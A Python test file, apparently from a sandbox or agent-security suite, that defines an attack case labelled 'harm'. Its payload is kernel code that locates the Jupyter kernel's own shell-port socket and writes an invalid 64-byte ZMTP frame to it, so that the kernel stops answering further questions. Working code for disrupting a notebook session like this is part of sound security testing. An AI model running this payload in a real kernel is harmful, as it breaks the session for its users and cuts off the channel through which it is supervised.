"""Writes what is no message into the connection on which the kernel is asked: nobody takes the next question"""

from tests.attacks.attack import Attack

ATTACK = Attack(
    "harm",
    q2="""
import os, socket, stat
from ipykernel.kernelapp import IPKernelApp
asked_at = IPKernelApp.instance().shell_port
sent = 0
for number in map(int, os.listdir("/proc/self/fd")):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            end = socket.socket(fileno=os.dup(number))
            here, _ = end.getsockname(), end.getpeername()
            if (int(here.rpartition("-")[2]) if isinstance(here, str) else here[1]) == asked_at:
                sent += end.send(b"\\xff" * 64)  # ZMTP: a frame of a kind and of a length that there is not
    except (OSError, ValueError, IndexError, TypeError):
        continue
print("sent", sent)
""",
    q3="reason = 'B' if sent else 'not done'",
    proof="q3",
)
